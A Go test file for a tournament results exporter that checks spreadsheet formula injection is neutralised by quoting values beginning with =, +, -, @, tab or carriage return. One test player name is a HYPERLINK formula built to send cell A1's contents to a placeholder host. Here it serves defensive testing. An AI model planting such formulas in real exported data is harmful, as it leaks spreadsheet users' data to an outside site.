package exchange

import (
	"bytes"
	"encoding/csv"
	"testing"

	"outflank"
	"outflank/rules"
)

func TestSpreadsheetText(t *testing.T) {
	for in, want := range map[string]string{
		"":                        "",
		"Berg, Anna":              "Berg, Anna",
		"=HYPERLINK(\"x\",\"y\")": "'=HYPERLINK(\"x\",\"y\")",
		"+1 Anna":                 "'+1 Anna",
		"-2+3":                    "'-2+3",
		"@SUM(A1)":                "'@SUM(A1)",
		"\tTab":                   "'\tTab",
		"\rCR":                    "'\rCR",
		"Anna =1":                 "Anna =1",
		"'quoted":                 "'quoted",
	} {
		if got := spreadsheetText(in); got != want {
			t.Errorf("spreadsheetText(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestWriteResultsCSVNeutralisesFormulas: a player whose name a spreadsheet
// would run is written with a leading quote; ids and discs stay numbers.
func TestWriteResultsCSVNeutralisesFormulas(t *testing.T) {
	tour, err := outflank.NewTournament("csv", "CSV Open", "", rules.Custom, 3)
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{`=HYPERLINK("http://x.example/?"&A1,"win")`, "@Anna", "+Bob", "-Carl", "Dora"} {
		if _, err := tour.AddPlayer(outflank.Player{Name: name}); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := tour.AddRound(outflank.StageSwiss, []outflank.Pair{{Black: 1, White: 2}, {Black: 3, White: 4}}, []int{5}); err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if err := WriteResultsCSV(&b, tour); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][2]string{{`'=HYPERLINK("http://x.example/?"&A1,"win")`, "'@Anna"}, {"'+Bob", "'-Carl"}}
	for i, w := range want {
		if row := rows[i+1]; row[4] != w[0] || row[6] != w[1] || row[3] != itoa(2*i+1) {
			t.Errorf("row %d = %q; want black %q, white %q", i+1, row, w[0], w[1])
		}
	}
	if bye := rows[3]; bye[4] != "Dora" || bye[7] == "" || bye[7][0] == '\'' {
		t.Errorf("bye row = %q", bye)
	}
}
